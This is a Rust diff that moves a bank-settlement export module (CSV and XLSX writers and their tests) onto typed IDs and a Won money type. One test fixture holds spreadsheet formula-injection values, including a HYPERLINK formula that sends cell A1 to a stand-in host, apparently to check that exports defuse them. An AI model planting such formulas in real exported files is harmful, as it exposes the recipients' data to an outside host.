@@ -5,6 +5,7 @@
 //! A file is written next to its destination and renamed into place, so an error never
 //! leaves half a file.
 
+use jumpup_domain::ids::BatchId;
 use std::collections::HashMap;
 use std::path::Path;
 
@@ -83,7 +84,7 @@ pub enum ExportError {
 /// number of lines written so far. `recovered` is what the batch recovered of each bank's
 /// clawbacks from its payments: each bank's total shows it and the transfer that remains.
 pub fn write(
-    batch_id: i64,
+    batch_id: BatchId,
     lines: &[ExportLine],
     recovered: &HashMap<String, i64>,
     kind: Kind,
@@ -126,7 +127,7 @@ pub fn write(
     })
 }
 
-fn text_cells(batch_id: i64, l: &ExportLine) -> [String; 14] {
+fn text_cells(batch_id: BatchId, l: &ExportLine) -> [String; 14] {
     [
         batch_id.to_string(),
         l.bank_code.clone(),
@@ -136,11 +137,11 @@ fn text_cells(batch_id: i64, l: &ExportLine) -> [String; 14] {
         l.firm_name.clone().unwrap_or_default(),
         l.line.period_from.to_string(),
         l.line.period_to.to_string(),
-        l.line.claimed_won.to_string(),
-        l.line.computed_won.to_string(),
-        l.line.paid_before_won.to_string(),
-        l.line.payable_won.to_string(),
-        l.line.status.clone(),
+        l.line.claimed.to_string(),
+        l.line.computed.to_string(),
+        l.line.paid_before.to_string(),
+        l.line.payable.to_string(),
+        l.line.status.as_str().to_owned(),
         l.line.reason.clone().unwrap_or_default(),
     ]
 }
@@ -157,11 +158,11 @@ struct Sums {
 
 impl Sums {
     fn add(&mut self, l: &ExportLine) {
-        self.claimed += l.line.claimed_won;
-        self.computed += l.line.computed_won;
-        self.paid_before += l.line.paid_before_won;
-        self.payable += l.line.payable_won;
-        self.paid += l.line.payable_won.max(0);
+        self.claimed += l.line.claimed.get();
+        self.computed += l.line.computed.get();
+        self.paid_before += l.line.paid_before.get();
+        self.payable += l.line.payable.get();
+        self.paid += l.line.payable.get().max(0);
     }
 
     /// The netting of a bank's block (RULES.md 6.4), in words.
@@ -204,7 +205,7 @@ fn safe_record<W: std::io::Write, S: AsRef<str>>(
 }
 
 fn write_csv(
-    batch_id: i64,
+    batch_id: BatchId,
     lines: &[ExportLine],
     recovered: &HashMap<String, i64>,
     kind: Kind,
@@ -319,7 +320,7 @@ impl Sheets {
 }
 
 fn write_xlsx(
-    batch_id: i64,
+    batch_id: BatchId,
     lines: &[ExportLine],
     recovered: &HashMap<String, i64>,
     sheet_rows: u32,
@@ -337,22 +338,22 @@ fn write_xlsx(
             let won = s.won.clone();
             let (ws, r) = s.next_row()?;
             let cells = text_cells(batch_id, l);
-            ws.write(r, 0, batch_id)?;
+            ws.write(r, 0, batch_id.0)?;
             for (c, text) in cells.iter().enumerate().take(8).skip(1) {
                 ws.write_string(r, c as u16, text)?;
             }
             for (c, v) in [
-                l.line.claimed_won,
-                l.line.computed_won,
-                l.line.paid_before_won,
-                l.line.payable_won,
+                l.line.claimed,
+                l.line.computed,
+                l.line.paid_before,
+                l.line.payable,
             ]
             .into_iter()
             .enumerate()
             {
-                ws.write_with_format(r, 8 + c as u16, v, &won)?;
+                ws.write_with_format(r, 8 + c as u16, v.get(), &won)?;
             }
-            ws.write_string(r, 12, &l.line.status)?;
+            ws.write_string(r, 12, l.line.status.as_str())?;
             ws.write_string(r, 13, l.line.reason.as_deref().unwrap_or(""))?;
             sums.add(l);
             count += 1;
@@ -382,6 +383,8 @@ fn write_xlsx(
 #[cfg(test)]
 mod tests {
     use calamine::Reader;
+    use jumpup_domain::ids::BankId;
+    use jumpup_domain::money::Won;
 
     use super::*;
 
@@ -394,17 +397,17 @@ mod tests {
             firm_name: None,
             line: jumpup_store::settlement::LineRow {
                 line_no: i + 1,
-                bank_id: 1,
+                bank_id: BankId(1),
                 loan_no: format!("L{i}"),
                 case_id: None,
                 claim_id: None,
                 period_from: day,
                 period_to: day,
-                claimed_won: 1000 + i,
-                computed_won: 1000,
-                paid_before_won: 0,
-                payable_won: 1000,
-                status: "match".into(),
+                claimed: Won::new(1000 + i),
+                computed: Won::new(1000),
+                paid_before: Won::ZERO,
+                payable: Won::new(1000),
+                status: jumpup_domain::settlement::Status::Match,
                 reason: None,
             },
         }
@@ -419,7 +422,7 @@ mod tests {
             .map(|i| line("004", i))
             .chain((7..12).map(|i| line("011", i)))
             .collect();
-        write_xlsx(1, &lines, &HashMap::new(), 5, &path, &mut |_| {}).expect("written");
+        write_xlsx(BatchId(1), &lines, &HashMap::new(), 5, &path, &mut |_| {}).expect("written");
         let mut book = calamine::open_workbook_auto(&path).expect("readable");
         let names = book.sheet_names();
         assert_eq!(
@@ -466,9 +469,9 @@ mod tests {
         let mut hostile = line("004", 0);
         hostile.firm_name = Some("=HYPERLINK(\"http://x/?\"&A1,\"click\")".into());
         hostile.line.reason = Some("@SUM(A1)".into());
-        hostile.line.payable_won = -1000;
+        hostile.line.payable = Won::new(-1000);
         write_csv(
-            1,
+            BatchId(1),
             &[hostile],
             &HashMap::new(),
             Kind::Payments,
